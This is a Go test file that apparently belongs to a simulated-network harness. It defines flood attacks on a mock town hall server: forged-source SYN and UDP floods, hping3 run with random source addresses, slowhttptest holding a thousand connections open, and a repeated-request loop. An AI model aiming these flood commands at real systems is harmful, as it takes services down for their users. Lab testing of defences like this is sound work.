package main

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os/exec"
	"strconv"
	"time"

	"abri.example/abri/testnet"
)

// attackCase is one way to flood the town hall's web and mail server: it gives how many packets were sent, 0 when nobody
// counts them.
type attackCase struct {
	name   string
	attack func(ctx context.Context, s *testnet.Scene, v6 bool) (int, error)
}

// cases are all of them: own frames as fast as this machine can, and the usual tools.
var cases = func() []attackCase {
	var all []attackCase
	throw := func(name string, forged bool, floods ...testnet.Flood) {
		all = append(all, attackCase{name, func(ctx context.Context, s *testnet.Scene, v6 bool) (int, error) {
			return s.Throw(ctx, floods, s.Mail.Peer, v6, forged, 0)
		}})
	}
	for _, f := range testnet.Floods {
		throw(f.Name+", forged", true, f)
	}
	throw("SYN, one source", false, testnet.Floods[0])
	throw("UDP, one source", false, testnet.Floods[3])
	throw("mixed, forged", true, testnet.Floods...)
	all = append(all,
		attackCase{"hping3 SYN", hping}, attackCase{"HTTP requests", requests}, attackCase{"slow HTTP", slowHTTP})
	return all
}()

// hping has hping3 send SYNs from made-up addresses; it knows IPv4 only.
func hping(ctx context.Context, s *testnet.Scene, v6 bool) (int, error) {
	if v6 {
		return 0, errNoTool
	}
	return 0, tool(ctx, s, "hping3", "--flood", "--rand-source", "-q", "-S", "-p", strconv.Itoa(testnet.WebPort), s.Site.V4.String())
}

// slowHTTP has slowhttptest open a thousand connections and never end its requests.
func slowHTTP(ctx context.Context, s *testnet.Scene, v6 bool) (int, error) {
	at := s.Site.V4
	if v6 {
		at = s.Site.V6
	}
	url := "http://" + netip.AddrPortFrom(at, testnet.WebPort).String() + "/"
	return 0, tool(ctx, s, "slowhttptest", "-H", "-c", "1000", "-r", "200", "-i", "5", "-l", "60", "-u", url)
}

// tool runs a program on the criminals' host until ctx ends.
func tool(ctx context.Context, s *testnet.Scene, name string, args ...string) error {
	path, err := exec.LookPath(name)
	if err != nil {
		return fmt.Errorf("%s: %w", name, errNoTool)
	}
	p, err := s.Attackers[0].Host.Start(exec.Command(path, args...))
	if err != nil {
		return err
	}
	select {
	case <-ctx.Done():
	case <-p.Done():
	}
	if err := p.Stop(); ctx.Err() == nil {
		return err
	}
	return nil // asked to end, tools say so by an exit code of their own
}

// requests asks for the page over and over, each time by a connection of its own, from one address.
func requests(ctx context.Context, s *testnet.Scene, v6 bool) (int, error) {
	at := s.Site.V4
	if v6 {
		at = s.Site.V6
	}
	thief := testnet.Peer{Name: "visitor", Host: s.Technician.Host, V4: s.Technician.V4, V6: s.Technician.V6}
	room, sent := make(chan struct{}, 256), 0
	for ctx.Err() == nil {
		select {
		case room <- struct{}{}:
		case <-ctx.Done():
			return sent, nil
		}
		sent++
		go func() {
			defer func() { <-room }()
			one, cancel := context.WithTimeout(ctx, time.Second)
			defer cancel()
			if _, err := thief.Fetch(one, netip.AddrPortFrom(at, testnet.WebPort), "/"); errors.Is(err, context.Canceled) {
				return
			}
		}()
	}
	return sent, nil
}
